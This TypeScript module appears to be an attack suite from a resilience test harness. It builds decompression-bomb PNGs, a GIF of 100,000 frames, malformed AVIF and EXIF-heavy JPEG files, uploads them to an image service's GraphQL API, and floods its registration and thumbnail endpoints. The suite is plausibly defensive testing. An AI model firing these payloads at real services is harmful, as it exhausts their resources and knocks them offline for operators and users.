import { crc32, deflateSync } from "node:zlib";
import { type Attack, many, tally } from "../attack.ts";

const segments = Buffer.alloc(512 * 1024, Buffer.from([0xff, 0xe1, 0, 8, ...Buffer.from("Exif\0\0")]));

const uint32 = (value: number) => Buffer.from([24, 16, 8, 0].map((shift) => (value >>> shift) & 255));
const box = (name: string, ...content: Buffer[]) => {
  const inner = Buffer.concat(content);
  return Buffer.concat([uint32(inner.length + 8), Buffer.from(name), inner]);
};
const sizes = box("ispe", uint32(0), uint32(3), uint32(2));
const avif = Buffer.concat([
  box("ftyp", Buffer.from("avif"), uint32(0), Buffer.from("avif")),
  box("meta", uint32(0), box("iprp", box("ipco", ...many(3_200, () => sizes)))),
]);

/** Identifiers that are refused, so that the file is never registered; none, so that it is read. */
const identifiers = ["x".repeat(513), " x ", undefined];

/** Has uploaded files looked at again and again. */
function imageAttack(name: string, file: Buffer): Attack {
  const registering = (key: string, alias: number) => {
    const identifier = identifiers[alias % identifiers.length];
    const given = identifier === undefined ? "" : `, resourceIdentifier: "${identifier}"`;
    return `a${alias}: registerImage(imageKey: "${key}"${given}) { ... on Image { key } ... on BasicError { errorName } }`;
  };
  const queryOf = (keys: readonly string[]) => `mutation { ${keys.map(registering).join(" ")} }`;
  return {
    name,
    async prepare({ client }) {
      // Throws if the query is refused: then nothing would be attacked.
      await client.graphql(queryOf(["nothing"]));
    },
    run: async ({ client, post, over }) => {
      const blob = new Blob([new Uint8Array(file)]);
      const keys = await Promise.all(many(9, () => client.upload(blob, "MEDIA")));
      const body = JSON.stringify({ query: queryOf(keys) });
      let said = "nothing";
      for (let round = 0; round < 200 && !over.aborted; round++)
        said = tally(
          await Promise.all(
            many(16, () =>
              post(body).then(
                ({ status }) => status,
                (error: Error) => error.name,
              ),
            ),
          ),
        );
      return said;
    },
  };
}

const chunk = (name: string, content: Buffer) => {
  const named = Buffer.concat([Buffer.from(name), content]);
  return Buffer.concat([uint32(content.length), named, uint32(crc32(named))]);
};
/** A PNG of few bytes, with its rows compressed. */
const bomb = (side: number, interlaced: 0 | 1, rows: Buffer) =>
  Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", Buffer.concat([uint32(side), uint32(side), Buffer.from([8, 6, 0, 0, interlaced])])),
    chunk("IDAT", rows),
    chunk("IEND", Buffer.alloc(0)),
  ]);
const word = (value: number) => Buffer.from([value & 255, value >> 8]);
const frame = Buffer.concat([
  Buffer.from([0x2c, 0, 0, 0, 0]),
  word(1),
  word(1),
  Buffer.from([0, 2, 2, 0x44, 1, 0]),
]);
const frames = () =>
  Buffer.concat([
    Buffer.from("GIF89a"),
    ...[word(6_000), word(6_000), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])],
    ...many(100_000, () => frame),
    Buffer.from([0x3b]),
  ]);
const largeTile = Buffer.concat([
  box("ftyp", Buffer.from("avif"), uint32(0), Buffer.from("avif")),
  box("meta", uint32(0), box("iprp", box("ipco", box("ispe", uint32(0), uint32(7_000), uint32(7_000))))),
]);
/** Makes them when they are needed, which takes a second. */
function hostileImages(): Buffer[] {
  const side = 7_000;
  const rows = deflateSync(Buffer.alloc(side * (side * 4 + 1)));
  return [
    ...[bomb(side, 0, rows), bomb(side, 1, rows), bomb(40_000, 0, rows)],
    ...[bomb(side, 1, rows.subarray(0, rows.length / 3)), frames(), largeTile],
    ...[segments.subarray(0, 1_000), avif],
  ];
}

/** Asks for thumbnails of images, again and again. */
const thumbnails: Attack = {
  name: "thumbnails-of-hostile-images",
  run: async ({ url, client, over }) => {
    const images = hostileImages().map((image) => new Blob([new Uint8Array(image)]));
    const thrice = [...images, ...images, ...images];
    const keys = await Promise.all(thrice.map((image) => client.upload(image, "MEDIA")));
    const register = (key: string, i: number) =>
      `a${i}: registerImage(imageKey: "${key}") { ... on Image { key } ... on BasicError { error } }`;
    await client.graphql(`mutation { ${keys.map(register).join(" ")} }`);
    const headers = {
      "x-service-access-token-id": client.access.accessTokenId,
      "x-service-access-token-secret": client.access.accessTokenSecret,
    };
    const ask = async (key: string, width: number) => {
      const address = `${url}/@attacker/thumbnails/${width}/${key}`;
      const response = await fetch(address, { headers, redirect: "manual", signal: over });
      await response.arrayBuffer();
      return response.status;
    };
    let said = "nothing";
    for (let round = 0; round < 200 && !over.aborted; round++)
      said = tally(
        await Promise.all(
          keys.flatMap((key) =>
            [80, 240, 640].map((width) => ask(key, width).catch((error: Error) => error.name)),
          ),
        ),
      );
    return said;
  },
};

/** Files whose headers a careless reader looks at for long. */
export const imageAttacks: Attack[] = [
  imageAttack("an-image-of-3200-sizes", avif),
  imageAttack("an-image-of-tiny-segments", Buffer.concat([Buffer.from([0xff, 0xd8]), segments])),
  thumbnails,
];
